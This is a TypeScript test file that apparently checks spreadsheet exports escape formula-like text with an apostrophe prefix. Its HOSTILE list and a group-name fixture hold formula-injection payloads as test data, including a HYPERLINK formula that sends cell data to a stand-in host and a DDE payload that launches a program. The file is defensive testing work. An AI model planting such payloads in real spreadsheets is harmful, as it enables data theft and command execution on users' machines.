// Text that begins like a formula is written so that no spreadsheet program runs it: in the shared
// writer, and end to end in an export of names a user typed (the ranking).
import ExcelJS from 'exceljs';
import { beforeEach, describe, expect, it } from 'vitest';
import { makeWorld, type World } from '../../test/helpers/factories.js';
import { setupApp, type TestApp } from '../../test/helpers/test-app.js';
import { streamedWorkbookBuffer, streamTable, workbookBuffer, writeOfficialHeader, writeTable } from './documents/index.js';
import { formulaSafe } from './formula-safe.js';

const HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"ok")', '+1+1', '-2+3', '@SUM(A1:A2)', '\t=1+1', '\r=1+1', "=cmd|' /C calc'!A0"];

async function textCells(data: Uint8Array): Promise<Array<{ value: unknown; formula: boolean }>> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(Buffer.from(data) as unknown as ArrayBuffer);
  const out: Array<{ value: unknown; formula: boolean }> = [];
  wb.eachSheet((ws) => ws.eachRow((row) => row.eachCell((cell) => { out.push({ value: cell.value, formula: cell.type === ExcelJS.ValueType.Formula }); })));
  return out;
}

describe('formulaSafe', () => {
  it('prefixes text that begins with =, +, -, @, a tab or a carriage return, and leaves other text alone', () => {
    for (const h of HOSTILE) expect(formulaSafe(h)).toBe(`'${h}`);
    expect(formulaSafe('Tân Nam')).toBe('Tân Nam');
    expect(formulaSafe('1=1')).toBe('1=1');
  });

  it('makes every text cell of a written workbook safe, keeping numbers and the leading tab', async () => {
    const wb = new ExcelJS.Workbook();
    const ws = wb.addWorksheet('x');
    writeTable(ws, 1, [{ header: 'Tên', width: 20 }, { header: 'Số', width: 8 }], HOSTILE.map((h) => [h, -5]));
    const cells = await textCells(await workbookBuffer(wb));
    expect(cells.some((c) => c.formula)).toBe(false);
    // XML reads a carriage return back as a line feed; the apostrophe in front is what matters.
    for (const h of HOSTILE) expect(cells.map((c) => c.value)).toContain(`'${h}`.replace('\r', '\n'));
    expect(cells.filter((c) => c.value === -5)).toHaveLength(HOSTILE.length);
  });

  it('makes every text cell safe in a streamed workbook too: the header, rows committed on the way and the last open rows', async () => {
    const data = await streamedWorkbookBuffer(async (book) => {
      const sheet = book.sheet('x', [20, 8]);
      const meta = { header: 'state' as const, issuer: '=1+1', number: null, place: '@Quang Bình', date: '2021-10-25', type: 'Báo cáo', summary: '-Tóm tắt' };
      const r = writeOfficialHeader(sheet.ws, meta, 2);
      await streamTable(sheet, r, [{ header: 'Tên', width: 20 }, { header: 'Số', width: 8 }], (function* () { for (const h of HOSTILE) yield [h, -5]; })());
    });
    const cells = await textCells(data);
    expect(cells.some((c) => c.formula)).toBe(false);
    for (const h of HOSTILE) expect(cells.map((c) => c.value)).toContain(`'${h}`.replace('\r', '\n'));
    expect(cells.map((c) => c.value)).toEqual(expect.arrayContaining(["'=1+1", "'-Tóm tắt"]));
    expect(cells.filter((c) => c.value === -5)).toHaveLength(HOSTILE.length);
    expect(cells.map((c) => c.value).filter((v) => typeof v === 'string' && /^[=+\-@\t\r]/.test(v))).toEqual([]);
  });
});

describe('exports of what users typed', () => {
  let t: TestApp;
  let w: World;
  beforeEach(async () => {
    t = await setupApp();
    w = await makeWorld(t.db);
  });

  it('write a group named like a formula as text in the ranking XLSX', async () => {
    await t.db.updateTable('groups').set({ name: '=HYPERLINK("http://x.example","Nhóm 1")' }).where('id', '=', w.groups.groupA.id).execute();
    const raw = await (await t.app.request(`/api/v1/campaigns/${w.campaign.id}/ranking/export`, { headers: { cookie: (await t.as('leader')).cookie! } })).arrayBuffer();
    const cells = await textCells(new Uint8Array(raw));
    expect(cells.some((c) => c.formula)).toBe(false);
    expect(cells.map((c) => c.value)).toContain('\'=HYPERLINK("http://x.example","Nhóm 1")');
    expect(cells.map((c) => c.value).filter((v) => typeof v === 'string' && /^[=+\-@\t\r]/.test(v))).toEqual([]);
  });
});
